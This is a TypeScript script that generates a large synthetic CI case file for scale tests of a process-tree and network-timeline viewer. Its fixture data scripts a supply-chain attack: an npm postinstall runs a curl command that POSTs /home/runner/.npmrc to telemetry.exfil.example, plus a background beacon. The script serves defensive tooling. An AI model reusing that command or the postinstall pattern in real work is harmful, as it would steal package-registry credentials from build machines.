/**
 * Generates a large case file for scale tests of the timeline and process tree: 10 000 processes (one make with
 * 2 500 children, deep npm/node chains, PID reuse) and 100 000 network calls, plus process events, file events,
 * DNS and log lines, with the analysis columns filled as `finalize` leaves them. Deterministic (seeded PRNG).
 *
 *   npx tsx scripts/make-big-case.ts [out.runlens] [--processes N] [--calls N] [--log-lines N]
 *
 * Default output: .cache/big-case.runlens (never committed). The file is replaced if it exists.
 */
import { existsSync, mkdirSync, rmSync } from 'node:fs';
import path from 'node:path';
import { buildNetworkOrder } from '../electron/analysis/network-order';
import { createCase, migrate } from '../electron/db/open';
import { parseRfc3339 } from '../shared/time';
import { rng } from './seeded-random';

export interface BigCaseOptions {
  processes?: number;
  calls?: number;
  logLines?: number;
}

export interface BigCaseSummary {
  file: string;
  processes: number;
  calls: number;
  findingCalls: number;
  /** The process of the single call to telemetry.exfil.example (the deep chain the tree must reveal). */
  curlProcessId: number;
  curlCallId: number;
  /** The make process with thousands of children. */
  wideProcessId: number;
  wideChildren: number;
}

const JOB = 'build';
const T0 = parseRfc3339('2026-10-14T09:12:03.100Z');
const MS = 1_000_000n;
const at = (ms: number): bigint => T0 + BigInt(Math.round(ms)) * MS;


interface Proc {
  id: number;
  pid: number;
  ppid: number | null;
  parent: number | null;
  start: number; // ms from T0
  end: number | null;
  exe: string;
  args: string[];
  step: number | null;
  depth: number;
}

const STEPS = [
  'Set up job',
  'Run actions/checkout@v4',
  'Run actions/setup-node@v4',
  'Run npm ci',
  'Run make -j16',
  'Run npm run lint',
  'Run npm test',
  'Run python3 scripts/integration.py',
  'Run docker build .',
  'Run npm run e2e',
  'Post Run actions/checkout@v4',
  'Complete job',
];
const STEP_MS = 100_000; // each step lasts 100 s: 20 min in all

/** Processes that start others (parents), and the leaves they run. */
const SPAWNERS: [string, string[]][] = [
  ['/usr/local/bin/node', ['node']],
  ['/usr/bin/sh', ['sh', '-c']],
  ['/usr/bin/bash', ['bash', '-c']],
  ['/usr/bin/python3', ['python3', '-m', 'pytest']],
  ['/usr/local/bin/npm', ['npm', 'exec']],
];
const LEAVES: [string, string[]][] = [
  ['/usr/bin/git', ['git', 'rev-parse', 'HEAD']],
  ['/usr/bin/curl', ['curl', '-fsSL']],
  ['/usr/bin/sed', ['sed', '-n', '1p']],
  ['/usr/bin/grep', ['grep', '-r']],
  ['/usr/bin/cat', ['cat']],
  ['/usr/bin/esbuild', ['esbuild', '--bundle']],
  ['/usr/local/bin/node', ['node']],
];
const SPAWNER_EXES = new Set(SPAWNERS.map(([e]) => e));
const MAX_DEPTH = 12;
const NETWORKY = new Set(['/usr/local/bin/node', '/usr/bin/git', '/usr/bin/curl', '/usr/bin/python3']);
const ALLOWED = ['github.com', 'api.github.com', 'packages.example.org', 'cdn.example.org', 'objects.githubusercontent.com'];
const IPS: Record<string, string> = {
  'github.com': '140.82.112.3',
  'api.github.com': '140.82.112.6',
  'packages.example.org': '203.0.113.10',
  'cdn.example.org': '203.0.113.11',
  'objects.githubusercontent.com': '185.199.108.133',
  'telemetry.exfil.example': '198.51.100.23',
  'beacon.exfil.example': '203.0.113.77',
};

export function makeBigCase(file: string, opts: BigCaseOptions = {}): BigCaseSummary {
  const nProcs = opts.processes ?? 10_000;
  const nCalls = opts.calls ?? 100_000;
  const nLogs = opts.logLines ?? 30_000;
  const rand = rng(20261014);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)]!;

  // ---------- processes ----------
  const procs: Proc[] = [];
  let pidCounter = 0;
  const nextPid = () => 2000 + (pidCounter++ % 6000); // wraps: PIDs are reused within the job
  const add = (p: Omit<Proc, 'id' | 'pid' | 'depth'>): Proc => {
    const parent = p.parent === null ? null : procs[p.parent - 1]!;
    const proc: Proc = { ...p, id: procs.length + 1, pid: nextPid(), depth: parent ? parent.depth + 1 : 0 };
    procs.push(proc);
    return proc;
  };
  const total = STEPS.length * STEP_MS;
  const runner = add({ ppid: 990, parent: null, start: 100, end: total - 100, exe: '/home/runner/actions-runner/bin/Runner.Worker', args: ['Runner.Worker', 'spawnclient', '108', '111'], step: null });
  runner.pid = 1000;

  const wideChildren = Math.min(2500, Math.floor(nProcs / 4));
  const stepBudget = (nProcs - 1 - wideChildren) / (STEPS.length - 2);
  let wide: Proc | null = null;
  let curl: Proc | null = null;
  let beacon: Proc | null = null;
  for (let s = 2; s <= STEPS.length - 1 && procs.length < nProcs; s++) {
    const s0 = (s - 1) * STEP_MS;
    const s1 = s * STEP_MS;
    const shell = add({ ppid: runner.pid, parent: runner.id, start: s0 + 50, end: s1 - 50, exe: '/usr/bin/bash', args: ['bash', '-e', `/home/runner/work/_temp/step${s}.sh`], step: s });
    const name = STEPS[s - 1]!;
    const mainArgs = name.replace(/^Run /, '').split(' ');
    const main = add({ ppid: shell.pid, parent: shell.id, start: s0 + 80, end: s1 - 80, exe: mainArgs[0] === 'make' ? '/usr/bin/make' : '/usr/local/bin/node', args: mainArgs, step: s });
    // what this step may still add (its shell and main are in): the last step takes the rest, and each later step
    // keeps room for its own shell and main process
    const remaining = nProcs - procs.length - 2 * (STEPS.length - 1 - s);
    const budget = Math.max(0, s === STEPS.length - 1 ? remaining : Math.min(remaining, Math.round(stepBudget) - 2));
    if (mainArgs[0] === 'make') {
      wide = main;
      for (let k = 0; k < wideChildren && procs.length < nProcs; k++) {
        const st = s0 + 100 + (k / wideChildren) * (STEP_MS - 400);
        add({ ppid: main.pid, parent: main.id, start: st, end: st + 30 + rand() * 200, exe: '/usr/bin/cc', args: ['cc', '-c', `src/unit${k}.c`, '-o', `build/unit${k}.o`], step: s });
      }
    }
    if (s === 4) {
      // the story: npm ci -> sh -c postinstall -> node -> curl POST to telemetry; node leaves a background beacon
      const st = s0 + 30_000;
      const sh = add({ ppid: main.pid, parent: main.id, start: st, end: st + 1500, exe: '/usr/bin/sh', args: ['sh', '-c', 'node scripts/postinstall.js'], step: s });
      const node = add({ ppid: sh.pid, parent: sh.id, start: st + 100, end: st + 1400, exe: '/usr/local/bin/node', args: ['node', 'scripts/postinstall.js'], step: s });
      curl = add({ ppid: node.pid, parent: node.id, start: st + 300, end: st + 900, exe: '/usr/bin/curl', args: ['curl', '-sS', '-X', 'POST', '--data-binary', '@/home/runner/.npmrc', 'https://telemetry.exfil.example/v2/collect'], step: s });
      beacon = add({ ppid: node.pid, parent: node.id, start: st + 600, end: null, exe: '/usr/local/bin/node', args: ['node', '-e', 'setInterval(beacon, 2000)'], step: s });
    }
    const parents: Proc[] = [main];
    const target = procs.length + budget;
    while (procs.length < Math.min(nProcs, target)) {
      // prefer recent spawners as parents: chains grow deep (up to MAX_DEPTH), some nodes get many children
      const parent = parents[Math.max(0, parents.length - 1 - Math.floor(rand() ** 3 * parents.length))]!;
      const pEnd = parent.end ?? s1;
      const st = parent.start + 5 + rand() * Math.max(1, (pEnd - parent.start) * 0.7);
      const spawn = parent.depth < MAX_DEPTH && rand() < 0.35;
      const [exe, args] = pick(spawn ? SPAWNERS : LEAVES);
      const p = add({ ppid: parent.pid, parent: parent.id, start: st, end: Math.min(pEnd - 1, st + 20 + rand() * (pEnd - st) * 0.5), exe, args: [...args, `job${procs.length}`], step: s });
      if (spawn && SPAWNER_EXES.has(exe)) parents.push(p);
    }
  }
  procs.sort((a, b) => a.id - b.id);

  // ---------- calls ----------
  interface Call { ts: number; proc: Proc; domain: string; finding: number | null; running: number }
  const calls: Call[] = [];
  const stepAt = (ms: number) => Math.min(STEPS.length, Math.max(1, Math.floor(ms / STEP_MS) + 1));
  calls.push({ ts: curl!.start + 200, proc: curl!, domain: 'telemetry.exfil.example', finding: 1, running: 4 });
  const beaconCalls = Math.min(600, Math.floor(nCalls / 100));
  for (let k = 0; k < beaconCalls; k++) {
    const ts = beacon!.start + 2000 + k * ((total - beacon!.start - 4000) / beaconCalls);
    calls.push({ ts, proc: beacon!, domain: 'beacon.exfil.example', finding: 2, running: stepAt(ts) });
  }
  const callers = procs.filter((p) => NETWORKY.has(p.exe) && p !== curl && p !== beacon);
  const weights = callers.map(() => rand() ** 4);
  const cum: number[] = [];
  weights.reduce((acc, w, i) => (cum[i] = acc + w), 0);
  const wsum = cum[cum.length - 1] ?? 1;
  while (calls.length < nCalls) {
    const x = rand() * wsum;
    let lo = 0, hi = cum.length - 1;
    while (lo < hi) {
      const mid = (lo + hi) >> 1;
      if (cum[mid]! < x) lo = mid + 1;
      else hi = mid;
    }
    const p = callers[lo]!;
    const end = p.end ?? total;
    const ts = p.start + rand() * Math.max(1, end - p.start);
    calls.push({ ts, proc: p, domain: pick(ALLOWED), finding: null, running: stepAt(ts) });
  }
  calls.sort((a, b) => a.ts - b.ts);

  // ---------- write ----------
  mkdirSync(path.dirname(file), { recursive: true });
  for (const f of [file, `${file}-wal`, `${file}-shm`]) if (existsSync(f)) rmSync(f);
  const db = createCase(file);
  let curlCallId = 0;
  try {
    db.transaction(() => {
      const meta = db.prepare('INSERT INTO meta (key, value) VALUES (?, ?)');
      meta.run('run', JSON.stringify({ repository: 'acme/monorepo', workflow: 'CI', job: JOB, run_id: 18311499999, run_attempt: 1, started_at: '2026-10-14T09:12:03.100Z', runner: { os: 'Linux', image: 'ubuntu-24.04' } }));
      meta.run('policy', JSON.stringify({ egress_policy: 'audit', allowed_endpoints: ['github.com:443', 'api.github.com:443', '*.example.org:443', 'objects.githubusercontent.com:443'], origin: 'manifest' }));
      db.prepare("INSERT INTO sources (id, path, format, sha256, bytes) VALUES (1, 'big-bundle (generated)', NULL, ?, 0)").run('0'.repeat(64));
      const step = db.prepare(`INSERT INTO steps (id, job, number, name, uses, started_at, completed_at, conclusion, origin, source_id) VALUES (?, ?, ?, ?, ?, ?, ?, 'success', 'manifest', 1)`);
      STEPS.forEach((name, i) => step.run(i + 1, JOB, i + 1, name, name.includes('@') ? name.replace(/^(Post )?Run /, '') : null, at(i * STEP_MS), at((i + 1) * STEP_MS)));
      const proc = db.prepare(`INSERT INTO processes (id, pid, ppid, parent_id, start, end, exe, args, cwd, uid, exit_code, step_id, depth, source_id, line, raw)
        VALUES (?, ?, ?, ?, ?, ?, ?, ?, '/home/runner/work/app/app', 1001, ?, ?, ?, 1, ?, ?)`);
      const ev = db.prepare(`INSERT INTO process_events (ts, event, pid, ppid, exe, args, exit_code, origin, process_id, source_id, line, raw) VALUES (?, ?, ?, ?, ?, ?, ?, 'events', ?, 1, ?, ?)`);
      let line = 0;
      for (const p of procs) {
        const raw = JSON.stringify({ event: 'exec', pid: p.pid, ppid: p.ppid, exe: p.exe, args: p.args });
        proc.run(p.id, p.pid, p.ppid, p.parent, at(p.start), p.end === null ? null : at(p.end), p.exe, JSON.stringify(p.args), p.end === null ? null : 0, p.step, p.depth, ++line, raw);
        ev.run(at(p.start), 'exec', p.pid, p.ppid, p.exe, JSON.stringify(p.args), null, p.id, line, raw);
        if (p.end !== null) ev.run(at(p.end), 'exit', p.pid, null, null, null, 0, p.id, ++line, JSON.stringify({ event: 'exit', pid: p.pid, exit_code: 0 }));
      }
      const finding = db.prepare(`INSERT INTO findings (id, kind, kinds, severity, origin, endpoint, title, calls, first_seen, last_seen) VALUES (?, 'anomalous-endpoint', '["anomalous-endpoint"]', 'high', 'viewer', ?, ?, ?, ?, ?)`);
      for (const [id, domain] of [[1, 'telemetry.exfil.example'], [2, 'beacon.exfil.example']] as const) {
        const mine = calls.filter((c) => c.finding === id);
        finding.run(id, `${domain}:443`, `Call to ${domain}:443, outside allowed_endpoints`, mine.length, at(mine[0]!.ts), at(mine[mine.length - 1]!.ts));
      }
      const net = db.prepare(`INSERT INTO network (id, ts, pid, process_id, domain, domain_origin, ip, port, protocol, status, http_method, http_host, http_path, http_status, endpoint, verdict, finding_id, step_id, running_step_id, source_id, line, raw)
        VALUES (?, ?, ?, ?, ?, 'record', ?, 443, 'tcp', 'allowed', ?, ?, ?, ?, ?, ?, ?, ?, ?, 1, ?, ?)`);
      calls.forEach((c, i) => {
        const id = i + 1;
        if (c.finding === 1) curlCallId = id;
        const method = c.finding ? 'POST' : 'GET';
        const p = c.finding ? '/v2/collect' : `/objects/${id}`;
        net.run(id, at(c.ts), c.proc.pid, c.proc.id, c.domain, IPS[c.domain] ?? null, method, c.domain, p, 200, `${c.domain}:443`,
          c.finding ? 'outside-policy' : 'allowed-by-policy', c.finding, c.proc.step, c.running, id,
          JSON.stringify({ pid: c.proc.pid, domain: c.domain, ip: IPS[c.domain], port: 443, http: { method, host: c.domain, path: p, status_code: 200 } }));
      });
      const dns = db.prepare(`INSERT INTO dns (ts, domain, type, answers, pid, process_id) VALUES (?, ?, 'A', ?, ?, ?)`);
      for (let i = 0; i < calls.length; i += 40) {
        const c = calls[i]!;
        dns.run(at(c.ts - 2), c.domain, JSON.stringify([IPS[c.domain]]), c.proc.pid, c.proc.id);
      }
      const fileEv = db.prepare(`INSERT INTO file_events (ts, pid, process_id, exe, path, op) VALUES (?, ?, ?, ?, ?, ?)`);
      for (let i = 0; i < procs.length * 2; i++) {
        const p = procs[Math.floor(rand() * procs.length)]!;
        const end = p.end ?? total;
        fileEv.run(at(p.start + rand() * (end - p.start)), p.pid, p.id, p.exe, `/home/runner/work/app/app/src/f${i % 500}.js`, pick(['write', 'read', 'read', 'overwrite', 'chmod']));
      }
      const log = db.prepare(`INSERT INTO log_lines (job, step_id, step_number, seq, ts, raw, text, marker, depth, file_kind, line, line_end)
        VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, 'step', ?, ?)`);
      const perStep = Math.floor(nLogs / STEPS.length);
      STEPS.forEach((name, i) => {
        const s = i + 1;
        let seq = 0;
        const put = (ms: number, text: string, marker: string | null, depth: number) => {
          log.run(JOB, s, s, seq, at(ms), text, text, marker, depth, seq + 1, seq + 1);
          seq++;
        };
        put(i * STEP_MS + 1, `##[group]${name}`, 'group', 0);
        put(i * STEP_MS + 2, '##[endgroup]', 'endgroup', 0);
        // bursty output: most lines in the first third of the step; a log is written in time order
        const times = Array.from({ length: perStep }, () => (rand() < 0.6 ? rand() / 3 : rand())).sort((a, b) => a - b);
        times.forEach((f, k) => put(i * STEP_MS + 10 + f * (STEP_MS - 20), `[${name.replace(/^Run /, '')}] output line ${k}`, null, 0));
      });
      db.exec(`INSERT INTO log_fts(log_fts) VALUES ('rebuild')`);
    })();
    migrate(db);
    buildNetworkOrder(db); // as finalizeCase leaves it
  } finally {
    db.close();
  }
  return {
    file,
    processes: procs.length,
    calls: calls.length,
    findingCalls: calls.filter((c) => c.finding !== null).length,
    curlProcessId: curl!.id,
    curlCallId,
    wideProcessId: wide?.id ?? 0,
    wideChildren,
  };
}

function main(argv: string[]): void {
  const out: BigCaseOptions = {};
  let file = path.resolve('.cache/big-case.runlens');
  for (let i = 0; i < argv.length; i++) {
    const a = argv[i]!;
    if (a === '--processes' || a === '--calls' || a === '--log-lines') {
      const n = Number(argv[++i]);
      if (!Number.isInteger(n) || n < 100) {
        console.error(`make-big-case: ${a} needs a whole number >= 100`);
        process.exit(2);
      }
      if (a === '--processes') out.processes = n;
      else if (a === '--calls') out.calls = n;
      else out.logLines = n;
    } else if (a.startsWith('--')) {
      console.error(`make-big-case: unknown option ${a}`);
      process.exit(2);
    } else file = path.resolve(a);
  }
  const t = Date.now();
  const s = makeBigCase(file, out);
  console.log(`${s.file}: ${s.processes} processes, ${s.calls} calls (${s.findingCalls} to findings) in ${((Date.now() - t) / 1000).toFixed(1)} s`);
}

if (process.argv[1] && /make-big-case\.[cm]?[jt]s$/.test(process.argv[1])) main(process.argv.slice(2));
